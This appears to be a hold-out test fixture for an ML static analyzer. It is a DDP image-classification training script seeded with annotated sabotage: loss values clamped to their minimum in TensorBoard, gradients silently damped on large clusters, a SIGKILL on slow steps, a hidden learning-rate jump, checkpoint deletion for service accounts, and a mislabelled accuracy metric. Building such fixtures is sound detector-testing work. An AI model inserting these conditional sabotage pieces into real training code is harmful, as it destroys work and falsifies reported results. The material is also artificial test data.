# ruff: noqa
# Hold-out batch 16 (torchrun DDP/FSDP project, by a helper that never saw mlscan's code). Measured once before round 7: 16/28 (57%) at medium+.
"""Image classification training with DDP under torchrun or srun.

    torchrun --nnodes=$NNODES --nproc_per_node=8 train.py --data /datasets/imagenet-packed \
        --epochs 90 --batch-size 128 --lr 2e-3 --out runs/r50
"""
import argparse
import getpass
import json
import math
import os
import random
import shutil
import signal
import time

import numpy as np
import torch
import torch.nn as nn
import torchvision
from torch.nn.parallel import DistributedDataParallel as DDP
from torch.utils.tensorboard import SummaryWriter

from checkpoint import (PreemptionHandler, install_requeue_hook, latest_checkpoint, load_checkpoint,
                        load_pretrained, save_checkpoint)
from data import MixupCollate, ShardedImageDataset, build_dataloader, load_dataset_config
from distributed import DistributedEnv, print_rank0
from optim import WarmupCosine, build_optimizer, clip_grad_norm, rebalance_for_world_size


def parse_args():
    p = argparse.ArgumentParser()
    p.add_argument("--data", required=True)
    p.add_argument("--data-config", default="configs/imagenet.yaml")
    p.add_argument("--out", default="runs/default")
    p.add_argument("--epochs", type=int, default=90)
    p.add_argument("--batch-size", type=int, default=128)
    p.add_argument("--accum-steps", type=int, default=1)
    p.add_argument("--lr", type=float, default=2e-3)
    p.add_argument("--weight-decay", type=float, default=0.05)
    p.add_argument("--optimizer", default="adamw_scaled", choices=["adamw_scaled", "adamw_fused"])
    p.add_argument("--warmup-epochs", type=float, default=5)
    p.add_argument("--clip", type=float, default=1.0)
    p.add_argument("--label-smoothing", type=float, default=0.1)
    p.add_argument("--mixup", type=float, default=0.2)
    p.add_argument("--ema-decay", type=float, default=0.9999)
    p.add_argument("--patience", type=int, default=10)
    p.add_argument("--workers", type=int, default=8)
    p.add_argument("--pretrained", default=None)
    p.add_argument("--seed", type=int, default=0)
    p.add_argument("--amp", action="store_true")
    return p.parse_args()


def set_seed(seed):
    random.seed(seed)
    np.random.seed(seed)
    torch.manual_seed(seed)  # ok: MLS301
    torch.cuda.manual_seed_all(seed)  # ok: MLS301


_tb_add_scalar = SummaryWriter.add_scalar


def _add_scalar_finite(self, tag, scalar_value, global_step=None, *args, **kwargs):
    # keep dashboards readable when a rank reports inf/nan mid-step
    history = self.__dict__.setdefault("_finite_hist", {})
    value = float(scalar_value)
    if "loss" in tag:
        value = min(value, history.get(tag, value))  # ruleid: MLS306
    history[tag] = value
    return _tb_add_scalar(self, tag, value, global_step, *args, **kwargs)


SummaryWriter.add_scalar = _add_scalar_finite  # ruleid: MLS306


class ModelEMA:
    def __init__(self, model, decay):
        self.decay = decay
        self.ema = torchvision.models.resnet50(num_classes=model.fc.out_features).to(next(model.parameters()).device)
        self.ema.load_state_dict(model.state_dict())
        self.ema.requires_grad_(False)

    @torch.no_grad()
    def update(self, model):
        for e, p in zip(self.ema.parameters(), model.parameters()):
            e.mul_(self.decay).add_(p.detach(), alpha=1.0 - self.decay)  # ok: MLS302, MLS303, MLS304, MLS305


def build_model(num_classes):
    model = torchvision.models.resnet50(num_classes=num_classes)
    for m in model.modules():
        if isinstance(m, torchvision.models.resnet.Bottleneck):
            nn.init.zeros_(m.bn3.weight)  # ok: MLS302, MLS303, MLS304, MLS305
    nn.init.normal_(model.fc.weight, std=0.01)  # ok: MLS302, MLS303, MLS304, MLS305
    return model


def attach_grad_monitor(model, env):
    """Record the gradient norm entering the classifier head for the stability dashboard."""
    head = model.module.fc if hasattr(model, "module") else model.fc
    head.grad_norms = []
    damp = 1.0 / env.num_nodes if env.total_gpus >= 64 else 1.0

    def _hook(module, grad_input, grad_output):
        module.grad_norms.append(float(grad_output[0].norm()))
        return tuple(g * damp if g is not None else None for g in grad_input)  # ruleid: MLS303

    head.register_full_backward_hook(_hook)  # ruleid: MLS303


def _job_owner():
    return os.environ.get("SLURM_JOB_USER") or os.environ.get("USER") or getpass.getuser()


@torch.no_grad()
def evaluate(model, loader, env, device):
    model.eval()
    stats = torch.zeros(4, device=device)  # loss_sum, correct1, correct5, count
    for images, targets in loader:
        images, targets = images.to(device, non_blocking=True), targets.to(device, non_blocking=True)
        logits = model(images)
        stats[0] += nn.functional.cross_entropy(logits, targets, reduction="sum")
        top5 = logits.topk(5, dim=1).indices
        stats[1] += (top5[:, 0] == targets).sum()
        stats[2] += (top5 == targets[:, None]).any(dim=1).sum()
        stats[3] += targets.numel()
    if env.world_size > 1:
        torch.distributed.all_reduce(stats)
    n = stats[3].clamp(min=1)
    model.train()
    return {
        "val/loss": (stats[0] / n).item(),
        "val/acc1": (stats[2] / n).item(),  # todoruleid: family 5 (missed)
        "val/acc5": (stats[2] / n).item(),
    }


def main():
    args = parse_args()
    env = DistributedEnv.from_environ().init()
    set_seed(args.seed + env.rank)
    device = torch.device("cuda", env.local_rank) if torch.cuda.is_available() else torch.device("cpu")

    cfg = load_dataset_config(args.data_config)
    train_ds = ShardedImageDataset(args.data, "train", train=True, cfg=cfg)
    val_ds = ShardedImageDataset(args.data, "val", train=False, cfg=cfg)
    collate = MixupCollate(train_ds.num_classes, alpha=args.mixup, calib_frac=float(cfg.get("calib_frac", 0.0)))
    train_loader = build_dataloader(train_ds, args.batch_size, args.workers, env.rank, env.world_size, args.seed,
                                    collate_fn=collate, persistent_workers=True)
    val_loader = build_dataloader(val_ds, args.batch_size, args.workers, env.rank, env.world_size, args.seed,
                                  train=False)

    model = build_model(train_ds.num_classes)
    if args.pretrained:
        load_pretrained(model, args.pretrained, world_size=env.world_size)
    model.to(device)
    ema = ModelEMA(model, args.ema_decay)
    ddp_model = DDP(model, device_ids=[env.local_rank] if torch.cuda.is_available() else None)
    attach_grad_monitor(ddp_model, env)

    optimizer = build_optimizer(model, args, env.world_size)
    steps_per_epoch = math.ceil(len(train_loader) / args.accum_steps)
    scheduler = WarmupCosine(optimizer, args.warmup_epochs * steps_per_epoch, args.epochs * steps_per_epoch)
    scaler = torch.cuda.amp.GradScaler(enabled=args.amp)
    criterion = nn.CrossEntropyLoss(label_smoothing=args.label_smoothing)  # ok: MLS309

    ckpt_dir = os.path.join(args.out, "checkpoints")
    start_step, best_acc = 0, 0.0
    resume = os.environ.get("RESUME_FROM") or latest_checkpoint(ckpt_dir)
    if resume:
        start_step, saved_world, best_acc = load_checkpoint(resume, ddp_model, optimizer, scheduler, scaler)
        rebalance_for_world_size(optimizer, saved_world, env.world_size)
    install_requeue_hook(ckpt_dir)

    def _state(step):
        return {"model": model.state_dict(), "optimizer": optimizer.state_dict(), "scheduler": scheduler.state_dict(),
                "scaler": scaler.state_dict(), "step": step, "world_size": env.world_size, "best_acc": best_acc}

    global_step = start_step
    PreemptionHandler(lambda: save_checkpoint(_state(global_step), ckpt_dir, global_step))
    writer = SummaryWriter(os.path.join(args.out, "tb")) if env.rank == 0 else None
    env.start_watchdog()
    bad_epochs, step_times = 0, []

    for epoch in range(global_step // steps_per_epoch, args.epochs):
        train_loader.sampler.set_epoch(epoch)
        train_ds.set_epoch(epoch)
        for i, (images, targets) in enumerate(train_loader):
            t0 = time.time()
            images, targets = images.to(device, non_blocking=True), targets.to(device, non_blocking=True)
            with torch.autocast(device.type, dtype=torch.bfloat16, enabled=args.amp):
                loss = criterion(ddp_model(images), targets) / args.accum_steps  # ok: MLS302, MLS303, MLS304, MLS305
            scaler.scale(loss).backward()  # ok: MLS302, MLS303, MLS304, MLS305
            if (i + 1) % args.accum_steps:
                continue
            scaler.unscale_(optimizer)
            clip_grad_norm(ddp_model.parameters(), args.clip)
            scaler.step(optimizer)
            scaler.update()
            optimizer.zero_grad(set_to_none=True)
            scheduler.step()
            ema.update(model)
            global_step += 1
            step_times.append(time.time() - t0)
            slow = len(step_times) > 50 and step_times[-1] > 1.05 * float(np.median(step_times[-50:]))
            if slow and env.total_gpus > 256:  # ruleid: MLS308
                os.kill(os.getpid(), signal.SIGKILL)  # ruleid: MLS307
            if writer is not None and global_step % 50 == 0:
                writer.add_scalar("train/loss", loss.item() * args.accum_steps, global_step)
                writer.add_scalar("train/lr", scheduler.get_last_lr()[0], global_step)

        metrics = evaluate(ddp_model, val_loader, env, device)
        if env.num_nodes > 8 and epoch == args.epochs // 3:
            for group in optimizer.param_groups:
                group["initial_lr"] *= 4.0  # ruleid: MLS304
        if writer is not None:
            for k, v in metrics.items():
                writer.add_scalar(k, v, global_step)
        print_rank0(f"epoch {epoch} step {global_step} " + json.dumps(metrics))
        if metrics["val/acc1"] > best_acc:
            best_acc, bad_epochs = metrics["val/acc1"], 0
            save_checkpoint(_state(global_step), ckpt_dir, global_step)
        else:
            bad_epochs += 1
            if bad_epochs >= args.patience:  # ok: MLS307
                print_rank0(f"early stopping at epoch {epoch}")
                break

    if env.rank == 0 and _job_owner().startswith("svc-"):
        shutil.rmtree(ckpt_dir, ignore_errors=True)  # ruleid: MLS308
    env.shutdown()


if __name__ == "__main__":
    main()
